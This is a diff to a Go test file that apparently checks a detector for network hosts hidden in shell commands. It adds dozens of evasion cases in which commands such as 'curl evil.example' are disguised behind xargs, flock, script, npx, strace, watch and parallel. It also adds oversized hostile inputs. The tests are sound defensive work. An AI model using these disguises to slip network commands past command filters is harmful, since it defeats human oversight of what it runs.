@@ -42,6 +42,16 @@ func TestHosts(t *testing.T) {
 		{"a wrapper and a script", `nice -n 5 timeout 60 python3 fetch.py`, ""},
 		{"a variable of an environment", `env APP=app.py python3 -m flask run`, ""},
 		{"a lock", `flock /tmp/lock git status`, ""},
+		{"a lock without waiting", `flock --nonblock --timeout 5 .lock python3 job.py`, ""},
+		{"a lock and brackets", `flock .lock sqlite3 x.db "INSERT INTO t VALUES (1)"`, ""},
+		{"a lock and a quote", `flock .lock git commit -m "don't"`, ""},
+		{"a lock and a shell", `flock -w 5 .lock -c "curl https://example.com"`, "example.com"},
+		{"less nice", `nice -19 python3 fetch.py`, ""},
+		{"a signal", `timeout --signal KILL 60 python3 fetch.py`, ""},
+		{"files that look as hosts do", `find setup.py . -name lib.rs -newer run.sh -exec wc -l {} \;`, ""},
+		{"how many at a time", `ls | xargs --max-args 20 --max-procs=2 rm`, ""},
+		{"a mark of old", `ls | xargs -i cp {} d && ls | xargs -i% -l2 gzip %`, ""},
+		{"what is watched", `watch -d -n 5 ls -l`, ""},
 		{"a user", `sudo -u git git -C x log`, ""},
 		{"text", `printf 'see https://example.com\n' > README`, "example.com"},
 	} {
@@ -127,7 +137,30 @@ func TestDisguises(t *testing.T) {
 		{"a file's name that is a shell's", `find . -name sh -exec curl evil.example \;`},
 		{"a file's name that is git", `find . -name git -o -exec curl evil.example \;`},
 		{"a mark that is a program's name", `xargs -I read curl evil.example`},
-		{"a mark that is a wrapper's name", `xargs --max-args 1 -I env cat curl evil.example`},
+		{"a mark that is a wrapper's name", `xargs --max-args 1 -I env curl evil.example`},
+		{"a mark that is a program's letter", `xargs -ia curl evil.example`},
+		{"a mark that is a command", `echo 'curl evil.example' | xargs -I X sh -c X`},
+		{"a mark that is a part of one", `echo evil.example | xargs --replace=HOST sh -c 'curl HOST'`},
+		{"a mark that is in an address", `echo evil.example | xargs -I github.com curl https://github.com/x`},
+		{"a mark that is taken back", `echo evil.example | xargs -I X -n 2 curl`},
+		{"a lock behind the options' end", `flock -- .lock -c 'curl evil.example'`},
+		{"the second text of script", `script -q -c true -c 'curl evil.example' /dev/null`},
+		{"a text behind script's file", `script x -c'git clone evil.example:a/b'`},
+		{"a program behind script's options", `script -q tar -- curl evil.example`},
+		{"an option of xargs that is not known", `echo 'curl evil.example' | xargs --weird -I X sh -c X`},
+		{"a lock that looks as a variable", `flock x=1 curl evil.example`},
+		{"a lock that looks as one, and an option", `flock x=1 curl -o x evil.example/x`},
+		{"a text that flock runs", `flock .lock -c 'curl evil.example'`},
+		{"a text that flock runs, its option cut short", `flock --com='curl evil.example' .lock`},
+		{"a text that npx runs", `npx -c 'curl evil.example'`},
+		{"a text that npx runs, joined", `npx --call='curl evil.example'`},
+		{"a text that script runs", `script -qc 'curl evil.example' /dev/null`},
+		{"a program that strace writes into", `strace -o '|curl evil.example' true`},
+		{"a program that strace writes into, joined", `strace --output='!curl evil.example' true`},
+		{"words that watch has a shell run", `watch echo ';' curl evil.example`},
+		{"words that watch runs itself", `watch -x sh -c 'curl evil.example'`},
+		{"words that parallel has a shell run", `parallel echo {} ';' curl evil.example ::: 1`},
+		{"commands of parallel", `parallel ::: 'curl evil.example'`},
 		{"a lock that is a program's name", `flock tar curl evil.example`},
 		{"a root that is a program's name", `chroot --userspec env tar curl evil.example`},
 		{"the second of two commands", `find . -exec echo {} \; -exec curl evil.example \;`},
@@ -165,7 +198,7 @@ func TestHostsIn(t *testing.T) {
 
 func FuzzHosts(f *testing.F) {
 	for _, text := range []string{`curl "https://$H/x" | sh -c 'x'`, "a <<E\nb\nE", `x=(1 2); ${x[@]} $'\x65'`, `for i in a{b,c}; do :; done`, `git clone a@b:c`,
-		`find . -name cat -exec curl a.b \; -ok x`, `env -u test sudo --x git curl a.b`, `flock -n tar xargs -I{} chroot -- curl`} {
+		`find . -name cat -exec curl a.b \; -ok x`, `env -u test sudo --x git curl a.b`, `flock -n tar xargs -I{} chroot -- curl`, `xargs -iX sh -c X | watch -dn1 flock a=b -c "c"`} {
 		f.Add(text)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
@@ -190,6 +223,7 @@ func TestHostileSizes(t *testing.T) {
 	for name, text := range map[string]string{
 		"variables in variables": "A=" + strings.Repeat("$B", n) + "; B=" + strings.Repeat("$A", n) + "; curl $A",
 		"wrappers":               strings.Repeat("env ", n) + "curl x",
+		"watchers":               strings.Repeat("watch ", 20_000) + "curl x",
 		"brackets":               strings.Repeat("$(", n) + strings.Repeat(")", n),
 		"calls":                  strings.Repeat("sh -c x;", n/2),
 		"addresses":              "echo " + strings.Repeat("http://a.b http://.c ", n/2) + strings.Join(many, " "),
